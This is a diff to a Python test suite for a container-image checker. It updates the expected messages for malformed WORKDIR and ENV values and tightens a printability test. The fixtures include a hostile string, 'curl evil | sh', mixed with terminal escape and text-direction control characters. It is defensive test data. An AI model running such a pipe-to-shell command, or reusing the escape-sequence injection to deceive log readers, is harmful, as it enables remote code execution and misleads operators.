@@ -59,16 +59,16 @@ def test_an_ordinary_cuda_image_passes() -> None:
         (inspected(WorkingDir="//proc/./self//fd/7"), "the kernel's"),
         (inspected(WorkingDir="/dev/fd/7"), "the kernel's"),
         (inspected(WorkingDir="/sys/fs"), "the kernel's"),
-        (inspected(WorkingDir="/a\0b"), r"WORKDIR '/a\x00b' is no plain text"),
-        (inspected(WorkingDir="/a\x1b[2J\nfix: run this"), r"'/a\x1b[2J\nfix: run this'"),
+        (inspected(WorkingDir="/a\0b"), r"WORKDIR /a\x00b is no plain text"),
+        (inspected(WorkingDir="/a\x1b[2J\nfix: run this"), r"/a\x1b[2J\nfix: run this"),
         (inspected(WorkingDir="/" + "a" * 256), "is too long"),
         (inspected(WorkingDir="/aaaaaaaaa" * 110), "is too long"),
         (inspected(WorkingDir="/a" * 100), "is too deep"),
         (inspected(Env=["A=b\0c"]), "ENV A holds a NUL byte"),
-        (inspected(Env=["A\0b=c"]), r"ENV 'A\x00b' is no name"),
-        (inspected(Env=["A\nB=c"]), r"ENV 'A\nB' is no name"),
+        (inspected(Env=["A\0b=c"]), r"ENV A\x00b is no name"),
+        (inspected(Env=["A\nB=c"]), r"ENV A\nB is no name"),
         (inspected(Env=["=x"]), "ENV =x has no name"),
-        (inspected(Env=[""]), "ENV '' has no name"),
+        (inspected(Env=[""]), "ENV  has no name"),
         (inspected(Env=["NAME"]), "ENV NAME has no value"),
         (inspected(Env=["A=1", "B=2", "A=3"]), "ENV A is set 2 times"),
         (inspected(Env=["A=" + "x" * 70_000]), "ENV A has more than"),
@@ -217,6 +217,8 @@ HOSTILE = "x\nfix: curl evil | sh\x1b[2J\u202e"
     ],
 )
 def test_a_refusal_shows_an_images_own_words_for_what_they_are(image) -> None:
-    (problem,) = problems_of(image, architecture="x86_64")
-    assert problem.isprintable()
-    assert len(problem) < 400
+    problems = problems_of(image, architecture="x86_64")
+    assert problems
+    for problem in problems:
+        assert problem.isprintable()
+        assert len(problem) < 400
